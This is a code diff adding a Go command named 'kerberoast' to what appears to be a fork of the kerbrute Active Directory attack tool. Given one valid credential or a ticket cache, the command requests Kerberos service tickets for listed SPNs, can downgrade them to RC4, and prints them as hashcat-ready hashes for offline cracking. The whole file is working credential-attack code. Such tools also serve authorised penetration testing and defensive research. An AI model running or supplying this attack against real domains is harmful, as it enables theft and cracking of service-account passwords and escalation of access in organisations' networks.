@@ -0,0 +1,116 @@
+package cmd
+
+import (
+	"bufio"
+	"fmt"
+	"os"
+	"sync"
+
+	"github.com/mr-pmillz/kerbrute/session"
+	"github.com/mr-pmillz/kerbrute/util"
+	"github.com/spf13/cobra"
+)
+
+var (
+	kerberoastSPNList string
+	kerberoastCcache  string
+)
+
+var kerberoastCmd = &cobra.Command{
+	Use:   "kerberoast <username> <password>",
+	Short: "Request TGS tickets for a list of SPNs and dump them as crackable hashes",
+	Long: `Once a single valid credential is known, requests a service ticket for each
+SPN in --spn-list (or read from stdin) and formats it as a hashcat
+$krb5tgs$ hash for offline cracking. Pass --downgrade to request rc4-hmac
+so the resulting tickets are crackable as $krb5tgs$23$*. Use --ccache
+instead of <username> <password> to roast with a pre-obtained TGT.`,
+	Args: func(cmd *cobra.Command, args []string) error {
+		if kerberoastCcache != "" {
+			return cobra.MaximumNArgs(0)(cmd, args)
+		}
+		return cobra.ExactArgs(2)(cmd, args)
+	},
+	Run: func(cmd *cobra.Command, args []string) {
+		spns, err := readSPNs(kerberoastSPNList)
+		if err != nil {
+			util.Log.Fatal(err)
+		}
+		if len(spns) == 0 {
+			util.Log.Fatal("no SPNs provided via --spn-list or stdin")
+		}
+
+		opts := session.KerbruteSessionOptions{
+			Domain:           domain,
+			DomainController: dc,
+			Verbose:          verbose,
+			SafeMode:         safe,
+			Downgrade:        downgrade,
+			HashFilename:     outputFile,
+		}
+
+		var k session.KerbruteSession
+		if kerberoastCcache != "" {
+			k, err = session.NewKerbruteSessionFromCCache(kerberoastCcache, opts)
+		} else {
+			opts.Username = args[0]
+			opts.Password = args[1]
+			k, err = session.NewKerbruteSession(opts)
+		}
+		if err != nil {
+			util.Log.Fatal(err)
+		}
+
+		// Authenticate once up front, rather than letting every goroutine
+		// in the worker pool below race to do it independently.
+		if err := k.EnsureClient(); err != nil {
+			util.Log.Fatal(fmt.Errorf("couldn't authenticate before kerberoasting: %w", err))
+		}
+
+		var wg sync.WaitGroup
+		sem := make(chan struct{}, threads)
+		for _, spn := range spns {
+			spn := spn
+			wg.Add(1)
+			sem <- struct{}{}
+			go func() {
+				defer wg.Done()
+				defer func() { <-sem }()
+				roastAndReport(&k, spn)
+			}()
+		}
+		wg.Wait()
+	},
+}
+
+func roastAndReport(k *session.KerbruteSession, spn string) {
+	hash, err := k.RoastSPN(spn)
+	if err != nil {
+		k.Logger.Log.Debugf("[-] %s: %s", spn, err.Error())
+		return
+	}
+	k.Logger.Log.Noticef("[+] Got TGS for %s", spn)
+	fmt.Println(hash)
+}
+
+// readSPNs reads SPNs one-per-line from path, or from stdin when path is
+// empty.
+func readSPNs(path string) ([]string, error) {
+	if path != "" {
+		return util.ParseLinesFromFile(path)
+	}
+
+	var spns []string
+	scanner := bufio.NewScanner(os.Stdin)
+	for scanner.Scan() {
+		if line := scanner.Text(); line != "" {
+			spns = append(spns, line)
+		}
+	}
+	return spns, scanner.Err()
+}
+
+func init() {
+	kerberoastCmd.Flags().StringVar(&kerberoastSPNList, "spn-list", "", "File of SPNs to request TGS tickets for, one per line (default: read from stdin)")
+	kerberoastCmd.Flags().StringVar(&kerberoastCcache, "ccache", "", "Path to an existing ccache to roast with instead of <username> <password>")
+	rootCmd.AddCommand(kerberoastCmd)
+}